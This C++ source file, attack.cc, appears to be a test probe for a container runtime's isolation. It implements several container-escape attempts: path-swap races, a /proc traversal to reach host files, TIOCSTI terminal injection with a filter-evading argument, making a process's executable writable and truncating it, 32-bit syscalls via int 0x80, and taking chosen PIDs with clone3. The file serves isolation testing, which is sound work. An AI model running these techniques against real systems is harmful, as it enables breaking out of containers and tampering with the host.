// SPDX-License-Identifier: Apache-2.0
//
// What a hostile process in or beside a container does. Each way prints one line for every success
// and nothing when it was kept out; `swap`, `spy` and `program` go on until they are killed.
//
// usage: attack swap A B        exchanges two names for ever: what raced against path walks
//        attack spy PATH        looks through every process that it can see for a way to PATH, a
//                               file of the host
//        attack key NAME        finds a key of the caller's session keyring
//        attack tty             pushes input into the terminal on 0, or takes it
//        attack exe PID         makes the program of PID writable
//        attack int80           makes a system call of another architecture
//        attack socket FAMILY   opens a socket
//        attack program DEV INO  opens the program of every process that it can see, for ever:
//                               that file is the runtime's
//        attack number PID      leaves a process of that number, which must be free
#include <dirent.h>
#include <fcntl.h>
#include <linux/fs.h>
#include <linux/keyctl.h>
#include <linux/mount.h>
#include <linux/sched.h>
#include <signal.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#include <cerrno>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>

namespace {

void Won(const std::string& how) {
  std::puts(how.c_str());
  std::fflush(stdout);
}

[[noreturn]] void Swap(const char* a, const char* b) {
  for (;;) ::syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE);
}

bool Reaches(const std::string& folder, const std::string& path) {
  return ::access((folder + path).c_str(), F_OK) == 0;
}

void LookThrough(const std::string& process, const std::string& path) {
  for (const char* way : {"/root", "/cwd"})
    if (Reaches(process + way, path)) Won(process + way);
  DIR* fds = ::opendir((process + "/fd").c_str());
  if (fds == nullptr) return;
  while (const dirent* entry = ::readdir(fds)) {
    if (entry->d_name[0] == '.') continue;
    const std::string fd = process + "/fd/" + entry->d_name;
    // A folder of the host's, or its procfs, in which process 1 is the host's.
    if (Reaches(fd, path) || Reaches(fd + "/1/root", path)) Won(fd);
  }
  ::closedir(fds);
}

[[noreturn]] void Spy(const std::string& path) {
  for (;;) {
    DIR* proc = ::opendir("/proc");
    while (const dirent* entry = ::readdir(proc))
      if (std::atoi(entry->d_name) > 1) LookThrough(std::string("/proc/") + entry->d_name, path);
    ::closedir(proc);
  }
}

void FindKey(const char* name) {
  if (::syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING, "user", name, 0) >= 0)
    Won("key found");
}

void TakeTerminal() {
  char letter = 'x';
  if (::ioctl(0, TIOCSTI, &letter) == 0) Won("TIOCSTI");
  // The number that a filter of 64 bits takes for another and the kernel cuts to 32.
  if (::syscall(SYS_ioctl, 0, (1ul << 32) | TIOCSTI, &letter) == 0) Won("TIOCSTI, long");
  if (::ioctl(0, TIOCSCTTY, 1) == 0) Won("TIOCSCTTY");
  if (::open("/dev/tty", O_RDWR) >= 0) Won("/dev/tty");
}

void MakeWritable(const char* pid) {
  const std::string exe = std::string("/proc/") + pid + "/exe";
  const int fd = ::open(exe.c_str(), O_PATH);
  mount_attr attributes{};
  attributes.attr_clr = MOUNT_ATTR_RDONLY;
  if (::syscall(SYS_mount_setattr, fd, "", AT_EMPTY_PATH, &attributes, sizeof attributes) == 0)
    Won("mount_setattr");
  const std::string again = "/proc/self/fd/" + std::to_string(fd);
  if (::mount(nullptr, again.c_str(), nullptr, MS_REMOUNT | MS_BIND, nullptr) == 0) Won("remount");
  if (::open(again.c_str(), O_WRONLY) >= 0) Won("open");
  if (::truncate(exe.c_str(), 0) == 0) Won("truncate");
}

void CallAsI386() {
#ifdef __x86_64__
  long result = 20;  // getpid there
  asm volatile("int $0x80" : "+a"(result) : : "memory", "r8", "r9", "r10", "r11");
  Won("getpid: " + std::to_string(result));
#endif
}

[[noreturn]] void OpenPrograms(dev_t device, ino_t inode) {
  for (;;) {
    DIR* proc = ::opendir("/proc");
    if (proc == nullptr) std::exit(1);
    while (const dirent* entry = ::readdir(proc)) {
      if (entry->d_name[0] < '0' || entry->d_name[0] > '9') continue;
      const std::string exe = std::string("/proc/") + entry->d_name + "/exe";
      const int fd = ::open(exe.c_str(), O_RDONLY);
      struct stat st;
      if (fd >= 0 && ::fstat(fd, &st) == 0 && st.st_dev == device && st.st_ino == inode) Won(exe);
      if (fd >= 0) ::close(fd);
    }
    ::closedir(proc);
  }
}

// clone3(2), set_tid: the kernel gives out that number and no other. 1 when it is taken.
int TakeNumber(pid_t number) {
  clone_args args{};
  args.exit_signal = SIGCHLD;
  args.set_tid = reinterpret_cast<__u64>(&number);
  args.set_tid_size = 1;
  const long pid = ::syscall(SYS_clone3, &args, sizeof args);
  if (pid > 0) return 0;
  if (pid < 0) return std::perror("clone3"), 1;
  ::close_range(0, ~0u, 0);  // Nobody waits for the end of a file that this one holds.
  for (;;) ::pause();
}

}  // namespace

int main(int argc, char** argv) {
  const std::string way = argc > 1 ? argv[1] : "";
  if (way == "swap" && argc == 4) Swap(argv[2], argv[3]);
  if (way == "spy" && argc == 3) Spy(argv[2]);
  if (way == "program" && argc == 4) OpenPrograms(std::atol(argv[2]), std::atol(argv[3]));
  if (way == "number" && argc == 3) return TakeNumber(std::atoi(argv[2]));
  if (way == "key" && argc == 3) {
    FindKey(argv[2]);
  } else if (way == "tty") {
    TakeTerminal();
  } else if (way == "exe" && argc == 3) {
    MakeWritable(argv[2]);
  } else if (way == "int80") {
    CallAsI386();
  } else if (way == "socket" && argc == 3) {
    std::puts(::socket(std::atoi(argv[2]), SOCK_SEQPACKET, 0) < 0 ? std::strerror(errno)
                                                                  : "opened");
  } else {
    std::fputs("usage: see attack.cc\n", stderr);
    return 2;
  }
  return 0;
}
